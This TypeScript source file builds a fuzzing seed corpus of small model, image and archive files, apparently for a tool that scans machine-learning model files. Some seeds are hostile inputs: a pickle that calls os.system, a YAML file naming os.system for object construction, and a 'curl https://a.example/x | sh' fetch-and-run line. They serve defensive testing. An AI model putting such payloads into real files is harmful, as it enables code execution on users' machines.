import { readdirSync, readFileSync } from 'node:fs';
import { deflateSync, gunzipSync, gzipSync } from 'node:zlib';
import { buildCoreml, buildCoremlWeights } from './build-coreml.js';
import { buildGguf } from './build-gguf.js';
import { buildSafetensors, layOut } from './build-safetensors.js';
import { buildTorchLegacy, buildTorchZip } from './build-torch.js';
import { buildTflite, custom } from './build-tflite.js';
import { buildZip } from './build-zip.js';
import { H5PY_FILES } from './h5py-files.js';

/** One file by which fuzzing begins, under the name that leads loaders to it. */
export interface CorpusFile {
  readonly name: string;
  readonly bytes: Buffer;
}

const WRITTEN = new URL('written/', import.meta.url);
/** Larger ones make every run slow and teach nothing. */
const MOST_BYTES = 64 * 1024;

/** What fuzzing begins with: files that real libraries wrote, and a small one of each format that has none. Inputs that once broke a reader belong here, too. */
export function corpus(): readonly CorpusFile[] {
  const written = readdirSync(WRITTEN).map((name) => ({ name, bytes: readFileSync(new URL(name, WRITTEN)) }));
  const hdf5 = Object.entries(H5PY_FILES).map(([name, base64]) => ({
    name: `${name}.h5`,
    bytes: gunzipSync(Buffer.from(base64, 'base64')),
  }));
  const made = Object.entries(MADE).map(([name, bytes]) => ({ name, bytes: Buffer.from(bytes as string, 'latin1') }));
  return [...written, ...hdf5, ...made].filter(({ bytes }) => bytes.length > 0 && bytes.length <= MOST_BYTES);
}

const bytesOf = (hex: string): Buffer => Buffer.from(hex.replaceAll(' ', ''), 'hex');
const { header, dataBytes } = layOut([{ name: 'a', dtype: 'F32', bits: 32, shape: [4] }]);
const SKOPS = '{"__class__":"list","__module__":"builtins","__loader__":"ListNode","content":[]}';
const STORAGES = [{ key: '0', elements: 3 }];
const KERAS = '{"class_name":"Sequential","module":"keras","config":{"layers":[]}}';

const MADE: Readonly<Record<string, string | Buffer>> = {
  'model.safetensors': buildSafetensors(header, dataBytes),
  'model.gguf': buildGguf({ metadata: {}, tensors: [{ name: 't', shape: [8], type: 0, startByte: 0 }], dataBytes: 32 }),
  'model.pt': buildTorchZip(STORAGES),
  'model.bin': buildTorchLegacy(STORAGES),
  'model.keras': buildZip({ members: [{ name: 'config.json', content: KERAS }, { name: 'metadata.json', content: '{}' }] }), // prettier-ignore
  'model.skops': buildZip({ members: [{ name: 'schema.json', content: SKOPS }] }),
  'flax_model.msgpack': bytesOf('81 a1 61 c7 08 01 93 91 01 a2 75 31 c4 01 05'),
  'tokenizer.model': bytesOf('0a 0e 0a 05 3c 75 6e 6b 3e 15 00 00 00 00 18 02 12 02 08 01'),
  'model.onnx': bytesOf('08 08 12 04 74 65 73 74 3a 08 0a 06 22 04 52 65 6c 75 42 02 10 0d'),
  'saved_model.pb': bytesOf('08 01 12 0c 12 0a 0a 08 0a 01 61 12 03 41 64 64'),
  'model.mlmodel': buildCoreml(),
  'weight.bin': buildCoremlWeights([10, 64]),
  'model.tflite': buildTflite(custom('Own')),
  'image.png': bytesOf('89504e470d0a1a0a 00000004 49484452 00000001 00000000 00000000 49454e44 00000000'),
  'image.jpg': bytesOf('ffd8 ffe0 0004 0000 ffda 0003 00 11 22 ff00 33 ffd9'),
  'image.gif': bytesOf('474946383961 0100 0100 00 00 00 2c 0000 0000 0100 0100 00 02 02 4401 00 3b'),
  'sound.wav': bytesOf('52494646 10000000 57415645 64617461 04000000 00000000'),
  'video.mp4': bytesOf('00000010 66747970 69736f6d 00000000 00000008 6d646174'),
  'packed.7z': bytesOf('377abcaf271c0004 0000'),
  'packed.gz': gzipSync('text'),
  'packed.z': deflateSync('text'),
  'program.so': bytesOf('7f454c46 02010100').toString('latin1').padEnd(64, '\0'),
  'config.json': '{"auto_map":{"A":"m.M"},"x":[1,-2.5e3,null,true,"\\u0061"],"x":2}',
  'config.yaml': 'a: !!python/object:os.system x\nchat_template: "{{ messages }}"\n_target_: os.system\n',
  'openvino_model.xml': '<net><layer version="opset1"/><!DOCTYPE x></net>',
  'chat_template.jinja': '{% for m in messages %}{{ m["content"] | trim }}{% endfor %}',
  'README.md': 'curl https://a.example/x | sh\n',
  'setup.py': 'import os\n',
  'state.pkl': '\x80\x02}(X\x01\x00\x00\x00aK\x01u.',
  'evil.pkl': 'cos\nsystem\n(Vtrue\ntR.',
};
